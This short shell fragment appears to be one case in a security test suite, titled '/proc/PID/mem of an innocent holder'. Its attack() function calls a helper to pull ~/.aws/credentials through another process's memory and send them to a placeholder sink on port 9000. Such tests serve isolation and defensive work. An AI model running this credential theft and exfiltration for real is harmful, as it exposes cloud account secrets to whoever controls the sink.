# SPDX-License-Identifier: Apache-2.0
TITLE="/proc/PID/mem of an innocent holder"
ROW="R20 E07"
attack() { "$PROVOKE/holder" mem "$HOME/.aws/credentials" "$SINK4" 9000; }
